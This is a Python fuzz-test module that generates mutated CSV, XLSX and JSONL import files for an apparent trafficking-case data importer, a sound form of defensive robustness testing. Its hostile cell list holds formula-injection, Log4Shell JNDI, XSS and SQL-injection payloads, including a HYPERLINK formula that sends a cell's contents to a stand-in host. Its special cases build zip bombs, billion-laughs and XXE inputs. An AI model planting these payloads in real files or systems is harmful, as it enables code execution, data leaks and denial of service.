"""Mutated import files: every case is a seed file put through a seeded chain of mutations.

A few mutations are run once per format whatever the count (special inputs, bombs, huge
files: they are slow or deterministic); the rest of the cases draw one to three cheap
mutations at random: a structural one (rows and columns, or JSON values), then possibly
a container one (XLSX parts) and a byte-level one.
"""

from __future__ import annotations

import codecs
import csv
import dataclasses
import io
import json
import os
import random
import re
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

from tests.fuzz import markers, xlsx
from tests.fuzz.harness import Case, Invocation
from tests.fuzz.seeds import Seeds, jsonl_documents

FORMATS = ("htcds-csv", "htcds-xlsx", "jsonl", "xlsform")
Rows = list[list[str]]

# ------------------------------------------------------------------------------ cell values

MARKER_VALUES = markers.ALL_VALUES
HOSTILE_CELLS = (
    "=HYPERLINK(\"http://example.invalid/?\"&A1,\"click\")",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\x00",
    "a\x00b",
    "\x1b[31mred\x1b[0m",
    "line\rbreak",
    "line\nbreak",
    "\u202eevil",
    "\ufeff",
    "\u200b",
    "e\u0301\u0301\u0301",
    "\U0001f600",
    "\ud800",
    "NaN",
    "inf",
    "-0",
    "1e309",
    "9" * 5000,
    "-" + "9" * 5000,
    "0x7fffffffffffffff",
    "18446744073709551616",
    "0000-00-00",
    "9999-12-31",
    "2023-02-30",
    "1971-03-17T25:61:61",
    "-1",
    "TRUE|FALSE|yes",
    "||||",
    " | ",
    "%s%s%n",
    "{0}",
    "${jndi:ldap://example.invalid/a}",
    "<script>alert(1)</script>",
    "'; DROP TABLE person; --",
    '"quoted"',
    "\\",
    "",
    " ",
)


def hostile_value(rng: random.Random) -> str:
    roll = rng.random()
    if roll < 0.35:
        return rng.choice(MARKER_VALUES)
    if roll < 0.45:
        return rng.choice(("x", "Zyxmarta ", "é")) * rng.choice((1000, 100_001, 300_000))
    return rng.choice(HOSTILE_CELLS)


# ------------------------------------------------------------------------------ row mutations


def _body(rows: Rows) -> range:
    return range(1, len(rows)) if len(rows) > 1 else range(0)


def dup_row(rows: Rows, rng: random.Random) -> Rows:
    if len(rows) > 1:
        i = rng.choice(_body(rows))
        rows.insert(rng.randint(1, len(rows)), list(rows[i]))
    return rows


def remove_row(rows: Rows, rng: random.Random) -> Rows:
    if len(rows) > 1:
        del rows[rng.choice(_body(rows))]
    return rows


def dup_column(rows: Rows, rng: random.Random) -> Rows:
    j = rng.randrange(len(rows[0]))
    at = rng.randint(0, len(rows[0]))
    for row in rows:
        if j < len(row):
            row.insert(min(at, len(row)), row[j])
    return rows


def remove_column(rows: Rows, rng: random.Random) -> Rows:
    j = rng.randrange(len(rows[0]))
    for row in rows:
        if j < len(row):
            del row[j]
    return rows


def shuffle_columns(rows: Rows, rng: random.Random) -> Rows:
    order = list(range(len(rows[0])))
    rng.shuffle(order)
    return [[row[j] for j in order if j < len(row)] for row in rows]


def ragged_row(rows: Rows, rng: random.Random) -> Rows:
    i = rng.randrange(len(rows))
    if rng.random() < 0.5:
        rows[i].extend(hostile_value(rng) for _ in range(rng.randint(1, 5)))
    else:
        del rows[i][rng.randint(0, len(rows[i])) :]
    return rows


def header_removed(rows: Rows, rng: random.Random) -> Rows:
    return rows[1:] or [["Zyxmarta", "Qwoplenko", "1971-03-17"]]


def header_only(rows: Rows, rng: random.Random) -> Rows:
    return rows[:1]


def markers_everywhere(rows: Rows, rng: random.Random) -> Rows:
    """Every cell of a few rows (or of all) holds a marker: code, date and ID columns too."""
    picked = list(_body(rows)) if rng.random() < 0.3 else rng.sample(list(_body(rows)), min(2, len(rows) - 1))
    for i in picked:
        rows[i] = [rng.choice(MARKER_VALUES) for _ in rows[i]]
    return rows


def markers_in_column(rows: Rows, rng: random.Random) -> Rows:
    j = rng.randrange(len(rows[0]))
    for i in _body(rows):
        if j < len(rows[i]):
            rows[i][j] = rng.choice(MARKER_VALUES)
    return rows


def markers_in_header(rows: Rows, rng: random.Random) -> Rows:
    """A header-less file whose first row is a person: the 'header' cells are identities."""
    for j in rng.sample(range(len(rows[0])), min(len(rows[0]), rng.randint(1, 6))):
        rows[0][j] = rng.choice(MARKER_VALUES)
    return rows


def hostile_cells(rows: Rows, rng: random.Random) -> Rows:
    for _ in range(rng.randint(1, 6)):
        i = rng.randrange(len(rows))
        if rows[i]:
            rows[i][rng.randrange(len(rows[i]))] = hostile_value(rng)
    return rows


def blank_core(rows: Rows, rng: random.Random) -> Rows:
    for name in ("prs_Gender", "vic_TraffickingStatus", "tip_CaseId", "tip_Organisation"):
        if name in rows[0] and len(rows) > 1:
            j = rows[0].index(name)
            i = rng.choice(_body(rows))
            if j < len(rows[i]):
                rows[i][j] = ""
    return rows


def split_case(rows: Rows, rng: random.Random) -> Rows:
    """Rows of one case no longer adjacent, or two cases under one ID."""
    if len(rows) > 3:
        i = rng.choice(_body(rows))
        rows.append(list(rows[i]))
        rows[-1][0] = rows[1][0] if rows[-1] else ""
    return rows


def many_rows(rows: Rows, rng: random.Random) -> Rows:
    body = rows[1:] or [[""]]
    return [rows[0], *(list(body[i % len(body)]) for i in range(rng.choice((500, 3000))))]


def many_columns(rows: Rows, rng: random.Random) -> Rows:
    extra = rng.choice((200, 5000))
    rows[0] = rows[0] + [f"extra_{i}" for i in range(extra)]
    for row in rows[1:]:
        row.extend("" for _ in range(extra))
    return rows


def empty_header_cells(rows: Rows, rng: random.Random) -> Rows:
    for j in rng.sample(range(len(rows[0])), min(3, len(rows[0]))):
        rows[0][j] = rng.choice(("", " ", "\t"))
    return rows


ROW_MUTATIONS: dict[str, Callable[[Rows, random.Random], Rows]] = {
    "dup-row": dup_row,
    "remove-row": remove_row,
    "dup-column": dup_column,
    "remove-column": remove_column,
    "shuffle-columns": shuffle_columns,
    "ragged-row": ragged_row,
    "header-removed": header_removed,
    "header-only": header_only,
    "markers-every-column": markers_everywhere,
    "markers-in-column": markers_in_column,
    "markers-in-header": markers_in_header,
    "hostile-cells": hostile_cells,
    "blank-core": blank_core,
    "split-case": split_case,
    "many-rows": many_rows,
    "many-columns": many_columns,
    "empty-header-cells": empty_header_cells,
}

# ------------------------------------------------------------------------------ byte mutations


def byte_flip(data: bytes, rng: random.Random) -> bytes:
    buffer = bytearray(data)
    for _ in range(rng.randint(1, 12)):
        if buffer:
            buffer[rng.randrange(len(buffer))] = rng.randrange(256)
    return bytes(buffer)


def truncate(data: bytes, rng: random.Random) -> bytes:
    return data[: rng.randrange(max(1, len(data)))]


def truncate_mid_row(data: bytes, rng: random.Random) -> bytes:
    ends = [i for i, b in enumerate(data) if b == 10]
    if len(ends) > 2:
        start = rng.choice(ends[:-1])
        return data[: start + rng.randint(2, 40)]
    return truncate(data, rng)


def truncate_mid_quote(data: bytes, rng: random.Random) -> bytes:
    quotes = [i for i, b in enumerate(data) if b == 34]
    if quotes:
        return data[: rng.choice(quotes) + rng.randint(1, 4)]
    return truncate(data, rng)


def no_final_newline(data: bytes, rng: random.Random) -> bytes:
    return data.rstrip(b"\r\n")


def unterminated_quote(data: bytes, rng: random.Random) -> bytes:
    ends = [i for i, b in enumerate(data) if b == 10] or [len(data)]
    at = rng.choice(ends)
    return data[:at] + b',"Zyxmarta unterminated' + data[at:]


def splice(data: bytes, rng: random.Random, other: bytes = b"") -> bytes:
    other = other or data
    return data[: rng.randrange(max(1, len(data)))] + other[rng.randrange(max(1, len(other))) :]


def insert_junk(data: bytes, rng: random.Random) -> bytes:
    at = rng.randrange(max(1, len(data)))
    junk = bytes(rng.randrange(256) for _ in range(rng.randint(1, 64)))
    return data[:at] + junk + data[at:]


def control_bytes(data: bytes, rng: random.Random) -> bytes:
    buffer = bytearray(data)
    for _ in range(rng.randint(1, 8)):
        buffer.insert(rng.randrange(len(buffer) + 1), rng.choice((0, 1, 8, 11, 12, 26, 27, 127)))
    return bytes(buffer)


def line_endings(data: bytes, rng: random.Random) -> bytes:
    if rng.random() < 0.5:
        return data.replace(b"\r\n", b"\r").replace(b"\n", b"\r")
    return data.replace(b"\r\n", b"\n").replace(b"\n", b"\n\r\n", 3)


def _text(data: bytes) -> str:
    return data.decode("utf-8", errors="replace")


ENCODINGS: dict[str, Callable[[bytes], bytes]] = {
    "utf-16-le-bom": lambda d: codecs.BOM_UTF16_LE + _text(d).encode("utf-16-le", "replace"),
    "utf-16-be-bom": lambda d: codecs.BOM_UTF16_BE + _text(d).encode("utf-16-be", "replace"),
    "utf-16-le-no-bom": lambda d: _text(d).encode("utf-16-le", "replace"),
    "utf-32": lambda d: _text(d).encode("utf-32", "replace"),
    "latin-1": lambda d: _text(d).encode("latin-1", "replace") + "Zyxmartà".encode("latin-1"),
    "cp1252": lambda d: (_text(d) + "“Zyxmarta”").encode("cp1252", "replace"),
    "invalid-utf8": lambda d: d[: len(d) // 2] + b"\xff\xfe\xc3\x28\xed\xa0\x80" + d[len(d) // 2 :],
    "utf8-bom": lambda d: codecs.BOM_UTF8 + d,
    "double-bom": lambda d: codecs.BOM_UTF8 + codecs.BOM_UTF8 + d,
    "utf16-bom-utf8-body": lambda d: codecs.BOM_UTF16_LE + d,
    "odd-utf16": lambda d: codecs.BOM_UTF16_LE + _text(d).encode("utf-16-le")[:-1],
}

def _ignoring_rng(function: Callable[[bytes], bytes]) -> Callable[[bytes, random.Random], bytes]:
    def mutate(data: bytes, rng: random.Random) -> bytes:
        return function(data)

    return mutate


BYTE_MUTATIONS: dict[str, Callable[[bytes, random.Random], bytes]] = {
    "byte-flip": byte_flip,
    "truncate": truncate,
    "truncate-mid-row": truncate_mid_row,
    "truncate-mid-quote": truncate_mid_quote,
    "no-final-newline": no_final_newline,
    "unterminated-quote": unterminated_quote,
    "insert-junk": insert_junk,
    "control-bytes": control_bytes,
    "line-endings": line_endings,
    **{f"encoding-{name}": _ignoring_rng(function) for name, function in ENCODINGS.items()},
}

# ------------------------------------------------------------------------------ XLSX mutations

Parts = dict[str, bytes]


def mismatched_tag(parts: Parts, rng: random.Random) -> Parts:
    sheet = parts[xlsx.SHEET].decode("utf-8", "replace")
    for old, new in (("</c>", "</x>"), ("</row>", "</rows>"), ("</t>", "</c>"), ("<sheetData>", "<sheetData><row>")):
        if old in sheet and rng.random() < 0.6:
            sheet = sheet.replace(old, new, 1)
            break
    else:
        sheet = sheet.replace("</sheetData>", "", 1)
    parts[xlsx.SHEET] = sheet.encode()
    return parts


def truncate_part(parts: Parts, rng: random.Random) -> Parts:
    name = rng.choice(sorted(parts))
    parts[name] = parts[name][: rng.randrange(max(1, len(parts[name])))]
    return parts


def remove_part(parts: Parts, rng: random.Random) -> Parts:
    del parts[rng.choice(sorted(parts))]
    return parts


def flip_part(parts: Parts, rng: random.Random) -> Parts:
    name = rng.choice(sorted(parts))
    parts[name] = byte_flip(parts[name], rng)
    return parts


def odd_cells(parts: Parts, rng: random.Random) -> Parts:
    """Cell types and references a spreadsheet writer would not produce."""
    sheet = parts[xlsx.SHEET].decode("utf-8", "replace")
    odd = rng.choice(
        (
            '<c r="B2" t="s"><v>999999</v></c>',
            '<c r="B2" t="s"><v>-1</v></c>',
            '<c r="B2" t="e"><v>#REF!</v></c>',
            '<c r="B2" t="b"><v>7</v></c>',
            '<c r="B2" t="d"><v>1971-03-17T00:00:00</v></c>',
            '<c r="B2" t="n"><v>' + "9" * 5000 + "</v></c>",
            '<c r="B2" t="n"><v>1e400</v></c>',
            '<c r="B2" s="999"><v>1</v></c>',
            '<c r="XFD1048576"><v>1</v></c>',
            '<c r="ZZZZZ99999999"><v>1</v></c>',
            '<c r="A0"><v>1</v></c>',
            '<c r="B2"><f>HYPERLINK("http://example.invalid","x")</f><v>0</v></c>',
            '<c r="B2" t="inlineStr"><is><t>Zyxmarta Qwoplenko</t></is></c>',
        )
    )
    at = sheet.find("</row>")
    if at >= 0:
        sheet = sheet[:at] + odd + sheet[at:]
    parts[xlsx.SHEET] = sheet.encode()
    return parts


def extra_row_numbers(parts: Parts, rng: random.Random) -> Parts:
    sheet = parts[xlsx.SHEET].decode("utf-8", "replace")
    number = rng.choice(("0", "-5", "1048577", "99999999999", "abc", "2"))
    sheet = sheet.replace('<row r="2"', f'<row r="{number}"', 1)
    parts[xlsx.SHEET] = sheet.encode()
    return parts


def dimension_lie(parts: Parts, rng: random.Random) -> Parts:
    sheet = parts[xlsx.SHEET].decode("utf-8", "replace")
    sheet = sheet.replace("<sheetData>", '<dimension ref="A1:XFD1048576"/><sheetData>', 1)
    parts[xlsx.SHEET] = sheet.encode()
    return parts


PART_MUTATIONS: dict[str, Callable[[Parts, random.Random], Parts]] = {
    "xml-mismatched-tag": mismatched_tag,
    "xml-truncated-part": truncate_part,
    "zip-part-removed": remove_part,
    "xml-byte-flip": flip_part,
    "xml-odd-cells": odd_cells,
    "xml-row-numbers": extra_row_numbers,
    "xml-dimension-lie": dimension_lie,
}

# ------------------------------------------------------------------------------ JSON mutations

Json = Any
# Python will not build a 5,000-digit int from text (and the child must keep the default
# limit), so the number is spliced into the JSON text in place of this placeholder.
HUGE_INT = "\x00huge-int\x00"


def _containers(value: Json, found: list[tuple[Json, Any]]) -> None:
    if isinstance(value, dict):
        for key in list(value):
            found.append((value, key))
            _containers(value[key], found)
    elif isinstance(value, list):
        for index in range(len(value)):
            found.append((value, index))
            _containers(value[index], found)


def _slots(document: Json) -> list[tuple[Json, Any]]:
    found: list[tuple[Json, Any]] = []
    _containers(document, found)
    return found


def wrong_value(rng: random.Random) -> Json:
    return rng.choice(
        (
            None,
            True,
            0,
            -1,
            1.5,
            float("nan"),
            float("inf"),
            HUGE_INT,
            "",
            [],
            {},
            [None],
            {"": None},
            hostile_value(rng),
            rng.choice(MARKER_VALUES),
            [rng.choice(MARKER_VALUES)],
            {rng.choice(MARKER_VALUES): rng.choice(MARKER_VALUES)},
        )
    )


def json_wrong_types(documents: list[Json], rng: random.Random) -> list[Json]:
    for _ in range(rng.randint(1, 5)):
        document = rng.choice(documents)
        slots = _slots(document)
        if slots:
            parent, key = rng.choice(slots)
            parent[key] = wrong_value(rng)
    return documents


def json_drop_keys(documents: list[Json], rng: random.Random) -> list[Json]:
    for _ in range(rng.randint(1, 4)):
        slots = [(p, k) for p, k in _slots(rng.choice(documents)) if isinstance(p, dict)]
        if slots:
            parent, key = rng.choice(slots)
            parent.pop(key, None)
    return documents


def json_marker_keys(documents: list[Json], rng: random.Random) -> list[Json]:
    """Markers as keys: unknown-field messages must not quote them."""
    for document in rng.sample(documents, min(len(documents), 2)):
        slots = [(p, k) for p, k in _slots(document) if isinstance(p, dict)]
        for parent, key in rng.sample(slots, min(len(slots), 3)):
            if key in parent:
                parent[rng.choice(MARKER_VALUES)] = parent.pop(key)
    return documents


def json_markers_everywhere(documents: list[Json], rng: random.Random) -> list[Json]:
    document = rng.choice(documents)
    for parent, key in _slots(document):
        if isinstance(parent[key], str | int | float) and not isinstance(parent[key], bool):
            parent[key] = rng.choice(MARKER_VALUES)
    return documents


def json_not_objects(documents: list[Json], rng: random.Random) -> list[Json]:
    documents.insert(rng.randint(0, len(documents)), rng.choice(([], 1, "Zyxmarta", None, [{}], True)))
    return documents


def json_many_participants(documents: list[Json], rng: random.Random) -> list[Json]:
    document = rng.choice(documents)
    if isinstance(document, dict) and isinstance(document.get("participants"), list) and document["participants"]:
        document["participants"] = document["participants"] * rng.choice((50, 2000))
    return documents


def json_dup_lines(documents: list[Json], rng: random.Random) -> list[Json]:
    documents.append(json.loads(json.dumps(rng.choice(documents))))
    return documents


def json_deep_value(documents: list[Json], rng: random.Random) -> list[Json]:
    document = rng.choice(documents)
    slots = _slots(document)
    if slots:
        parent, key = rng.choice(slots)
        # Nested lists this deep break json.dumps itself; the text is spliced in instead.
        parent[key] = f"\x00deep-{rng.choice((50, 900, 5000))}\x00"
    return documents


JSON_MUTATIONS: dict[str, Callable[[list[Json], random.Random], list[Json]]] = {
    "json-wrong-types": json_wrong_types,
    "json-drop-keys": json_drop_keys,
    "json-marker-keys": json_marker_keys,
    "json-markers-everywhere": json_markers_everywhere,
    "json-not-objects": json_not_objects,
    "json-many-participants": json_many_participants,
    "json-dup-lines": json_dup_lines,
    "json-deep-value": json_deep_value,
}


def _dump_json(documents: list[Json], rng: random.Random) -> bytes:
    lines = []
    for document in documents:
        try:
            line = json.dumps(document, ensure_ascii=rng.random() < 0.2)
        except (ValueError, RecursionError):
            line = json.dumps(str(document)[:1000])
        lines.append(line)
    text = "\n".join(lines) + "\n"
    text = text.replace(json.dumps(HUGE_INT), "9" * 5000)
    text = re.sub(
        r'"\\u0000deep-(\d+)\\u0000"',
        lambda match: "[" * int(match.group(1)) + '"Zyxmarta"' + "]" * int(match.group(1)),
        text,
    )
    if rng.random() < 0.1:
        # Keys repeated in one object: json.loads keeps the last, a validator may see both.
        text = text.replace('"external_id": ', '"external_id": "Zyxmarta", "external_id": ', 1)
    return text.encode("utf-8", errors="surrogatepass")


# ------------------------------------------------------------------------------ the cases


def _csv_bytes(rows: Rows, rng: random.Random) -> bytes:
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator=rng.choice(("\r\n", "\n")))
    writer.writerows(rows)
    return buffer.getvalue().encode("utf-8", errors="surrogatepass")


class _Source:
    """Lazily parsed seeds, shared by every case of a run."""

    def __init__(self, seeds: Seeds) -> None:
        self.seeds = seeds
        self.rows = {key: seeds.read_csv(key) for key in ("htcds-csv", "xlsform-csv")}
        self.bytes = {key: path.read_bytes() for key, path in seeds.files.items()}
        self.jsonl = jsonl_documents(seeds.files["jsonl"])
        self.htcds_xlsx_parts = xlsx.read_parts(seeds.files["htcds-xlsx"])

    def any_bytes(self, rng: random.Random) -> bytes:
        return self.bytes[rng.choice(sorted(self.bytes))]


def _rows_for(fmt: str, source: _Source) -> Rows:
    return [list(row) for row in source.rows["xlsform-csv" if fmt == "xlsform" else "htcds-csv"]]


def _mutated_file(fmt: str, source: _Source, rng: random.Random, folder: Path) -> tuple[str, Path]:
    """Write one randomly mutated file for ``fmt``; its mutation name and path."""
    names: list[str] = []
    spreadsheet = fmt == "htcds-xlsx" or (fmt == "xlsform" and rng.random() < 0.5)
    if fmt == "jsonl":
        documents = json.loads(json.dumps(source.jsonl))
        for name in rng.sample(sorted(JSON_MUTATIONS), rng.choice((1, 1, 2))):
            documents = JSON_MUTATIONS[name](documents, rng)
            names.append(name)
        data = _dump_json(documents, rng)
        suffix = ".jsonl"
    elif spreadsheet:
        suffix = ".xlsx"
        if fmt == "htcds-xlsx" and rng.random() < 0.25:
            parts = dict(source.htcds_xlsx_parts)  # the exporter's own workbook
            names.append("exported-xlsx")
        else:
            rows = _rows_for(fmt, source)
            for name in rng.sample(sorted(ROW_MUTATIONS), rng.choice((0, 1, 1, 2))):
                rows = ROW_MUTATIONS[name](rows, rng) or [[""]]
                names.append(name)
            raw = rng.random() < 0.1
            if raw:
                names.append("unescaped-xml")
            parts = xlsx.parts_for(rows, raw=raw)
        if rng.random() < 0.5 or not names:
            for name in rng.sample(sorted(PART_MUTATIONS), rng.choice((1, 1, 2))):
                if xlsx.SHEET in parts or name == "zip-part-removed":
                    parts = PART_MUTATIONS[name](parts, rng)
                    names.append(name)
        path = folder / f"input{suffix}"
        if rng.random() < 0.08 and xlsx.SHEET in parts:
            xlsx.bad_crc(path, parts)
            names.append("zip-bad-crc")
            return "+".join(names), path
        xlsx.write_parts(path, parts)
        if rng.random() < 0.15:
            name = rng.choice(("zip-truncated", "zip-byte-flip", "zip-splice"))
            data = path.read_bytes()
            if name == "zip-truncated":
                data = truncate(data, rng)
            elif name == "zip-byte-flip":
                data = byte_flip(data, rng)
            else:
                data = splice(data, rng, source.any_bytes(rng))
            path.write_bytes(data)
            names.append(name)
        return "+".join(names) or "seed", path
    else:
        rows = _rows_for(fmt, source)
        for name in rng.sample(sorted(ROW_MUTATIONS), rng.choice((0, 1, 1, 2))):
            rows = ROW_MUTATIONS[name](rows, rng) or [[""]]
            names.append(name)
        data = _csv_bytes(rows, rng)
        suffix = ".csv"
    if rng.random() < 0.55 or not names:
        name = rng.choice([*sorted(BYTE_MUTATIONS), "splice"])
        if name == "splice":
            data = splice(data, rng, source.any_bytes(rng))
            name = "splice-two-files"
        else:
            data = BYTE_MUTATIONS[name](data, rng)
        names.append(name)
    path = folder / f"input{suffix}"
    path.write_bytes(data)
    return "+".join(names), path


def _argv(fmt: str, path: Path, rng: random.Random, seeds: Seeds, folder: Path) -> Invocation:
    argv = ["import", str(path)]
    if fmt != "htcds-csv" or rng.random() < 0.9:
        argv += ["--format", fmt]
    if fmt == "xlsform":
        argv += ["--organisation", seeds.organisation]
    outputs: tuple[Path, ...] = ()
    if rng.random() < 0.75:
        report = folder / ("report.json" if rng.random() < 0.4 else "report.csv")
        argv += ["--report", str(report)]
        outputs = (report,)
    return Invocation(tuple(argv), outputs=outputs, searched=outputs)


def _special_cases(fmt: str, source: _Source, seeds: Seeds) -> list[tuple[str, Callable[[Path], Path | tuple[Path, list[str]]], float]]:
    """(mutation, writer of the input, timeout) run once per format."""
    header = ["tip_CaseId", "prs_Gender", "vic_TraffickingStatus"]
    ext = ".jsonl" if fmt == "jsonl" else (".xlsx" if fmt == "htcds-xlsx" else ".csv")

    def directory(folder: Path) -> Path:
        (folder / f"input{ext}").mkdir()
        return folder / f"input{ext}"

    def fifo(folder: Path) -> Path:
        os.mkfifo(folder / f"input{ext}")
        return folder / f"input{ext}"

    def dev_zero(folder: Path) -> Path:
        return Path("/dev/zero")

    def missing(folder: Path) -> Path:
        return folder / f"missing{ext}"

    def empty(folder: Path) -> Path:
        (folder / f"input{ext}").write_bytes(b"")
        return folder / f"input{ext}"

    def bogus_format(folder: Path) -> tuple[Path, list[str]]:
        path = folder / f"input{ext}"
        path.write_bytes(source.bytes["htcds-csv"])
        return path, ["import", str(path), "--format", "bogus"]

    def symlink_zero(folder: Path) -> Path:
        (folder / f"input{ext}").symlink_to("/dev/zero")
        return folder / f"input{ext}"

    def million_rows(folder: Path) -> Path:
        path = folder / f"input{ext}"
        if ext == ".xlsx":
            xlsx.million_rows_sheet(path, header, ["c", "", ""])
        elif ext == ".jsonl":
            path.write_bytes(b"{}\n" * 1_000_000)
        else:
            names = header if fmt == "htcds-csv" else ["meta/instanceID", "prs_Gender", "vic_TraffickingStatus"]
            path.write_bytes((",".join(names) + "\n").encode() + b"c,,\n" * 1_000_000)
        return path

    def huge_line(folder: Path) -> Path:
        path = folder / f"input{ext}"
        if ext == ".xlsx":
            xlsx.write_rows(path, [header, ["Zyxmarta" * 2_000_000, "", ""]])
        else:
            path.write_bytes((",".join(header) + "\n").encode() + b"Zyxmarta" * 4_000_000 + b"\n")
        return path

    specials: list[tuple[str, Callable[[Path], Any], float]] = [
        ("input-directory", directory, 15),
        ("input-fifo", fifo, 10),
        ("input-dev-zero", dev_zero, 10),
        ("input-symlink-dev-zero", symlink_zero, 10),
        ("input-missing", missing, 15),
        ("input-empty", empty, 15),
        ("format-bogus", bogus_format, 15),
        ("million-rows-one-case", million_rows, 90),
        ("huge-line-32MB", huge_line, 60),
    ]
    if fmt == "jsonl":

        def deep(folder: Path) -> Path:
            path = folder / "input.jsonl"
            path.write_bytes(b"[" * 100_000 + b"]" * 100_000 + b"\n")
            return path

        def deep_object(folder: Path) -> Path:
            path = folder / "input.jsonl"
            path.write_bytes(b'{"external_id": ' + b'{"a": ' * 100_000 + b"1" + b"}" * 100_001 + b"\n")
            return path

        def huge_number(folder: Path) -> Path:
            path = folder / "input.jsonl"
            path.write_bytes(b'{"external_id": "c", "organisation": "x", "opened_on": ' + b"9" * 5000 + b"}\n")
            return path

        specials += [
            ("deep-json-100k-arrays", deep, 30),
            ("deep-json-100k-objects", deep_object, 30),
            ("json-5000-digit-number", huge_number, 15),
        ]
    if ext == ".xlsx" or fmt == "xlsform":

        def bomb(folder: Path) -> Path:
            path = folder / "input.xlsx"
            xlsx.shared_strings_bomb(path, header)
            return path

        def million_sheet(folder: Path) -> Path:
            path = folder / "input.xlsx"
            xlsx.million_rows_sheet(path, header, ["c", "Feminine", ""])
            return path

        def laughs(folder: Path) -> Path:
            path = folder / "input.xlsx"
            parts = xlsx.parts_for([header, ["&lol9;", "Feminine", "Victim"]], raw=True)
            sheet = parts[xlsx.SHEET].decode()
            first_line_end = sheet.index("\n") + 1
            parts[xlsx.SHEET] = (sheet[:first_line_end] + xlsx.entity_payload("laughs") + sheet[first_line_end:]).encode()
            xlsx.write_parts(path, parts)
            return path

        def xxe(folder: Path) -> Path:
            path = folder / "input.xlsx"
            parts = xlsx.parts_for([header, ["&xxe;", "&xxe;", "&xxe;"]], raw=True)
            for part in (xlsx.SHEET, xlsx.SST):
                text = parts[part].decode()
                first_line_end = text.index("\n") + 1
                parts[part] = (text[:first_line_end] + xlsx.entity_payload("xxe", seeds.xxe_secret) + text[first_line_end:]).encode()
            xlsx.write_parts(path, parts)
            return path

        def not_a_zip(folder: Path) -> Path:
            path = folder / "input.xlsx"
            path.write_bytes(source.bytes["htcds-csv"])
            return path

        specials += [
            ("zip-bomb-shared-strings-1GB", bomb, 60),
            ("sheet-1M-rows", million_sheet, 90),
            ("billion-laughs", laughs, 30),
            ("xxe-external-entity", xxe, 30),
            ("csv-named-xlsx", not_a_zip, 15),
        ]
    return specials


def import_cases(fmt: str, seeds: Seeds, count: int, seed: int, source: _Source | None = None) -> Iterator[Case]:
    """``count`` cases for one import format; the special ones first when count allows."""
    source = source or _Source(seeds)
    specials = _special_cases(fmt, source, seeds)
    chooser = random.Random(f"{seed}:{fmt}:specials")
    if count < len(specials) * 3:
        # Small samples (the test module) keep the cheap specials and a couple of bombs.
        cheap = [s for s in specials if s[2] <= 15]
        costly = [s for s in specials if s[2] > 15]
        specials = chooser.sample(cheap, min(len(cheap), count // 4)) + chooser.sample(costly, min(len(costly), count // 20))
    for name, writer, timeout in specials:

        def build_special(folder: Path, writer: Callable[[Path], Any] = writer, name: str = name) -> Invocation:
            made = writer(folder)
            if isinstance(made, tuple):
                _, argv = made
                return Invocation(tuple(argv))
            rng = random.Random(f"{seed}:{fmt}:{name}")
            return _argv(fmt, made, rng, seeds, folder)

        yield Case(fmt, name, build_special, checks_database=True, timeout=timeout)
    for index in range(count - len(specials)):
        rng = random.Random(f"{seed}:{fmt}:{index}")

        def build(folder: Path, rng: random.Random = rng) -> Invocation:
            name, path = _mutated_file(fmt, source, rng, folder)
            invocation = _argv(fmt, path, rng, seeds, folder)
            return dataclasses.replace(invocation, mutation=name)

        yield Case(fmt, "random", build, checks_database=True, timeout=30.0)


def make_source(seeds: Seeds) -> _Source:
    return _Source(seeds)
